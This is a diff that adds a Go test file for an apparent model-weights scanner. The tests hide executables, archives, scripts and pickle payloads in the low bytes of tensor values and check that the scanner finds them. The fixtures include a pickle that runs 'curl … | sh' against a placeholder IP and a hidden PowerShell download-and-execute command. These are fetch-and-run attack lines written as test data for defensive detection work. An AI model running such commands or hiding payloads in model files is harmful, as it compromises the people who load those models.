@@ -1,0 +1,228 @@
+package weights
+
+import (
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"fmt"
+	"math/rand/v2"
+	"strings"
+	"testing"
+
+	"github.com/aigis-dev/aigis/analyzer"
+	"github.com/aigis-dev/aigis/internal/testutil"
+	"github.com/aigis-dev/aigis/report"
+)
+
+// A tensor of one of the dtypes EvilModel-style tools write into, clean.
+type twin struct {
+	name string
+	dt   analyzer.DType
+	make func(elems int, seed uint64) []byte
+}
+
+var twins = []twin{
+	{"f32", analyzer.F32, func(n int, seed uint64) []byte { return gaussF32(n, seed) }},
+	{"f32-bf16origin", analyzer.F32, func(n int, seed uint64) []byte { return halfOrigin(gaussF32(n, seed)) }},
+	{"f16", analyzer.F16, func(n int, seed uint64) []byte { return testutil.HalfF16(gaussF32(n, seed)) }},
+	{"bf16", analyzer.BF16, func(n int, seed uint64) []byte { return testutil.BF16(gaussF32(n, seed)) }},
+}
+
+type lay struct {
+	k  int
+	be bool
+}
+
+func (l lay) String() string {
+	if l.be {
+		return fmt.Sprintf("k%dBE", l.k)
+	}
+	return fmt.Sprintf("k%d", l.k)
+}
+
+func layoutsFor(dt analyzer.DType) []lay {
+	if dt != analyzer.F32 {
+		return []lay{{1, false}}
+	}
+	return []lay{{1, false}, {2, false}, {2, true}, {3, false}, {3, true}}
+}
+
+func scanTensor(t testing.TB, dt analyzer.DType, data []byte) *analyzer.Result {
+	out := analyzer.NewResult(nil)
+	if err := Scan(context.Background(), nil, bytes.NewReader(data), []analyzer.Tensor{{Name: "w", DType: dt, Size: int64(len(data))}}, out); err != nil {
+		t.Fatal(err)
+	}
+	return out
+}
+
+func findings(out *analyzer.Result, rule string) []report.Finding {
+	var fs []report.Finding
+	for _, f := range out.Findings() {
+		if f.Rule == rule {
+			fs = append(fs, f)
+		}
+	}
+	return fs
+}
+
+func gzipOf(b []byte) []byte {
+	var buf bytes.Buffer
+	w := gzip.NewWriter(&buf)
+	w.Write(b)
+	w.Close()
+	return buf.Bytes()
+}
+
+func zipOf(t testing.TB, b []byte) []byte {
+	var buf bytes.Buffer
+	w := zip.NewWriter(&buf)
+	f, err := w.Create("stage2/loader.py")
+	if err != nil {
+		t.Fatal(err)
+	}
+	f.Write(b)
+	w.Close()
+	return buf.Bytes()
+}
+
+// picklePayload is a protocol 4 pickle that calls os.system.
+func picklePayload() []byte {
+	cmd := "curl -s http://203.0.113.7/stage2 | sh; " + strings.Repeat("#", 64)
+	body := "\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c" + string(rune(len(cmd))) + cmd + "\x94\x85\x94R\x94."
+	b := []byte("\x80\x04\x95")
+	b = append(b, byte(len(body)), 0, 0, 0, 0, 0, 0, 0)
+	return append(b, body...)
+}
+
+// Every file signature is found in every layout EvilModel-style tools
+// write (the k low bytes of consecutive elements, in either byte order),
+// at an arbitrary element, and the finding names the tensor and element.
+func TestWeights_LowByteFileSignatures(t *testing.T) {
+	script := []byte("#!/bin/sh\n" + string(textPayload(2000)))
+	payloads := []struct {
+		name, kind string
+		data       []byte
+	}{
+		{"ELF", "ELF executable", elfPayload(4096)},
+		{"PE", "PE executable", testutil.PEPayload(4096)},
+		{"Zip", "zip archive", zipOf(t, textPayload(3000))},
+		{"Gzip", "gzip stream", gzipOf(elfPayload(8192))},
+		{"Shebang", "shell script", script},
+		{"Pickle", "pickle", picklePayload()},
+		{"PowerShell", "PowerShell script", []byte("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\"")},
+	}
+	r := rand.New(rand.NewPCG(1, 2))
+	for _, tw := range twins {
+		for _, l := range layoutsFor(tw.dt) {
+			for _, p := range payloads {
+				t.Run(tw.name+"/"+l.String()+"/"+p.name, func(t *testing.T) {
+					const n = 1 << 18
+					b := tw.make(n, r.Uint64())
+					es := tw.dt.Size()
+					start := r.IntN(n - len(p.data))
+					testutil.HideBytes(b, es, p.data, l.k, l.be, start)
+					out := scanTensor(t, tw.dt, b)
+					want := fmt.Sprintf("from element %d onwards, re-assemble into a %s", start, p.kind)
+					for _, f := range findings(out, "weights-lsb-file") {
+						if strings.Contains(f.Message, want) {
+							return
+						}
+					}
+					t.Errorf("no %q in %+v", want, out.Findings())
+				})
+			}
+		}
+	}
+}
+
+// A payload that starts in the last element of a 4 MiB chunk is checked
+// with the bytes of the next chunk.
+func TestWeights_LowByteFileAcrossChunks(t *testing.T) {
+	const n = 3 << 20 // 12 MiB of float32
+	for _, l := range layoutsFor(analyzer.F32) {
+		b := gaussF32(n, 77)
+		start := chunkSize/4 - 1
+		testutil.HideBytes(b, 4, testutil.PEPayload(2048), l.k, l.be, start)
+		out := scanTensor(t, analyzer.F32, b)
+		if fs := findings(out, "weights-lsb-file"); len(fs) == 0 || !strings.Contains(fs[0].Message, fmt.Sprint("element ", start)) {
+			t.Errorf("%v: %+v", l, out.Findings())
+		}
+	}
+}
+
+// Payloads without a header are found by what they do to the statistics
+// of the low bytes: text and executable code everywhere; random bytes
+// where the bytes they replace are not random (float32 byte 2, written
+// by 3-byte payloads; the low byte of bfloat16; low bits that the tensor
+// leaves empty). Random bytes in bytes that are already random (the low
+// 1 or 2 bytes of fp32-trained float32, the low byte of float16) cannot
+// be seen, and are not reported.
+func TestWeights_LowBytePayloadStatistics(t *testing.T) {
+	body := elfPayload(64 << 10)[64:] // code-like bytes and zero padding, no header
+	payloads := []struct {
+		name string
+		data []byte
+		size int
+	}{
+		{"Text4KiB", textPayload(4 << 10), 4 << 10},
+		{"ExecutableBody4KiB", body[:4<<10], 4 << 10},
+		{"Random256KiB", randomPayload(256 << 10), 256 << 10},
+	}
+	r := rand.New(rand.NewPCG(3, 4))
+	for _, tw := range twins {
+		for _, l := range layoutsFor(tw.dt) {
+			for _, p := range payloads {
+				want := true
+				if p.name == "Random256KiB" {
+					switch tw.name {
+					case "f32":
+						want = l.k == 3
+					case "f16":
+						want = false
+					}
+				}
+				t.Run(tw.name+"/"+l.String()+"/"+p.name, func(t *testing.T) {
+					const n = 2 << 20
+					b := tw.make(n, r.Uint64())
+					start := r.IntN(n - p.size)
+					testutil.HideBytes(b, tw.dt.Size(), p.data, l.k, l.be, start)
+					out := scanTensor(t, tw.dt, b)
+					fs := findings(out, "weights-lsb-payload")
+					if len(fs) > 0 != want {
+						t.Fatalf("found=%v, want %v: %+v", len(fs) > 0, want, out.Findings())
+					}
+					if !want {
+						return
+					}
+					// The finding covers the payload's first element.
+					per := perWindow(tw.dt)
+					first := start / per * per
+					last := (start + (p.size+l.k-1)/l.k - 1)
+					ok := false
+					for _, f := range fs {
+						var from, to int
+						if _, err := fmt.Sscanf(f.Message[strings.Index(f.Message, "elements "):], "elements %d-%d", &from, &to); err == nil && from <= last && to >= first {
+							ok = true
+						}
+					}
+					if !ok {
+						t.Errorf("findings do not cover elements %d-%d: %+v", start, last, fs)
+					}
+				})
+			}
+		}
+	}
+}
+
+// Clean tensors of every dtype, across seeds, are clean.
+func TestWeights_LowBytesCleanTwins(t *testing.T) {
+	for _, tw := range twins {
+		for seed := uint64(200); seed < 212; seed++ {
+			b := tw.make(1<<20+int(seed)*37, seed)
+			if out := scanTensor(t, tw.dt, b); len(out.Findings()) > 0 {
+				t.Errorf("%s seed %d: %+v", tw.name, seed, out.Findings())
+			}
+		}
+	}
+}
